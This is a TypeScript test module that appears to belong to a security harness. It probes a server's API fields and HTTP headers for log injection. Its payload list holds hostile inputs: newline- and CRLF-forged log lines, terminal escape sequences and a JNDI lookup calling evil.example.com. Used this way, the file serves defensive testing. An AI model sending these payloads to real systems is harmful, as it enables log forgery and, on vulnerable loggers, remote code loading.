import { type Attack, type AttackClass, parsed, refusedWith, type Verdict } from './attack.js';
import { echoDocument } from './documents.js';
import { addressFor, answersIn, type Sent } from './send.js';
import type { Site } from './site.js';

const forged = '{"level":"info","time":"2026-01-01T00:00:00.000Z","service":"standalone","msg":"FORGED"}';

/** Texts that would be more than themselves in a log that wrote them as they are. */
const payloads: Readonly<Record<string, string>> = {
  'a line of its own': `x\n${forged}\n`,
  'a line behind CR LF': `x\r\n${forged}\r\n`,
  'an end of its string': `x","msg":"FORGED","level":"info`,
  colours: 'x\u001b[31mFORGED\u001b[2J\u001b]0;FORGED\u0007',
  'unicode lines': `x\u2028${forged}\u2029\u0085`,
  'a format': '%s%s%n%d %o %j FORGED',
  'a look-up': '${jndi:ldap://evil.example.com/FORGED}',
  backspaces: `admin\b\b\b\b\bFORGED`,
};

/** Fields that are asked for and may come to a log, by what takes them. */
function inFields({ attacker: { has } }: Site): Attack[] {
  const places: Readonly<Record<string, (text: string) => Sent>> = {
    'the name of a workflow': (text) => ({ method: 'POST', path: '/api/v1/workflows', json: echoDocument(text) }),
    'the name of a key': (text) => ({
      method: 'POST',
      path: '/api/v1/keys',
      json: { name: text, scopes: ['runs:read'] },
    }),
    'the name of a person': (text) => ({ method: 'PATCH', path: `/api/v1/users/${has.user}`, json: { name: text } }),
    'the name of a role': (text) => ({
      method: 'PUT',
      path: `/api/v1/roles/${encodeURIComponent(text)}`,
      json: { permissions: ['runs:read'] },
    }),
    'the name of a dataset': (text) => ({
      method: 'PATCH',
      path: `/api/v1/datasets/${has.dataset}`,
      json: { name: text },
    }),
    'the name of a toolset': (text) => ({
      method: 'PUT',
      path: `/api/v1/tools/toolsets/${encodeURIComponent(text)}`,
      json: { kind: 'openapi', source: { document: text } },
    }),
    'the name of a provider': (text) => ({
      method: 'PUT',
      path: `/api/v1/models/providers/${encodeURIComponent(text)}`,
      json: { kind: text },
    }),
    'the input of a run': (text) => ({
      method: 'POST',
      path: `/api/v1/workflows/${has.workflow}/runs`,
      json: { query: text, inputs: { a: text }, user: text },
    }),
    'a model': (text) => ({
      method: 'POST',
      path: '/openai/v1/chat/completions',
      json: { model: text, messages: [{ role: 'user', content: text }] },
    }),
    'an e-mail address': (text) => ({
      method: 'POST',
      path: '/api/v1/auth/sign-in',
      json: { email: text, password: text },
    }),
    'a refresh token': (text) => ({ method: 'POST', path: '/api/v1/auth/refresh', json: { refresh_token: text } }),
    'an id in an address': (text) => ({ path: `/api/v1/runs/${encodeURIComponent(text)}` }),
    'an address': (text) => ({ path: `/${encodeURIComponent(text)}` }),
    'a query': (text) => ({ path: `/api/v1/runs?status=${encodeURIComponent(text)}` }),
  };
  return Object.entries(places).flatMap(([place, sent]) =>
    Object.entries(payloads).map(
      ([what, text]): Attack => ({
        name: `${what} as ${place}`,
        send: (at) => at.send({ as: at.attacker.owner, ...sent(text) }),
        judge: refusedWith([200, 201, 202, 400, 401, 404, 409, 422, 429]),
      }),
    ),
  );
}

/** Headers that a log may have; what cannot stand in one is sent as bytes and refused. */
function inHeaders(): Attack[] {
  const headers = [
    'X-Request-Id',
    'User-Agent',
    'Origin',
    'Referer',
    'Traceparent',
    'Idempotency-Key',
    'Authorization',
    'X-Forwarded-For',
    'X-Forwarded-Host',
    'Accept-Language',
    'Last-Event-ID',
  ];
  return headers.flatMap((header) =>
    Object.entries(payloads).map(
      ([what, text]): Attack => ({
        name: `${what} in ${header}`,
        send: async (at, id) => {
          const own = header === 'X-Request-Id' ? '' : `X-Request-Id: ${id}\r\n`;
          const from = header === 'X-Forwarded-For' ? '' : `X-Forwarded-For: ${addressFor(id)}\r\n`;
          const head = `GET /api/v1/runs/none HTTP/1.1\r\nHost: x\r\nConnection: close\r\n${own}${from}`;
          const credential = header === 'Authorization' ? 'Bearer ' : '';
          const known = header === 'Authorization' ? '' : `Authorization: Bearer ${at.attacker.owner}\r\n`;
          const bytes = Buffer.from(`${head}${known}${header}: ${credential}${text}\r\n\r\n`);
          const [first = { status: 400, headers: {}, text: '' }] = answersIn(await at.sendBytes([bytes]));
          return first;
        },
        judge: (answer): Verdict => {
          const told = Object.values(answer.headers).join('\n');
          if (/FORGED/.test(told)) return `the answer's headers say ${told.slice(0, 200)}`;
          return refusedWith([400, 401, 404])(answer);
        },
      }),
    ),
  );
}

/** No line of the log is theirs, and none of their bytes steers a terminal. */
function nothingForged(site: Site): Promise<Verdict> {
  const log = site.log();
  const lines = log.split('\n').map((line) => parsed(line) as { msg?: unknown } | undefined);
  const bad = lines.some((line) => line?.msg === 'FORGED') || /(?![\t\n])\p{Cc}/u.test(log);
  return Promise.resolve(bad ? 'the log has a line or a byte that somebody else wrote' : undefined);
}

/** Texts that pretend to be lines of the log. */
export const logInjection: AttackClass = {
  name: 'log-injection',
  attacks: (site) => [...inFields(site), ...inHeaders()],
  afterwards: nothingForged,
};
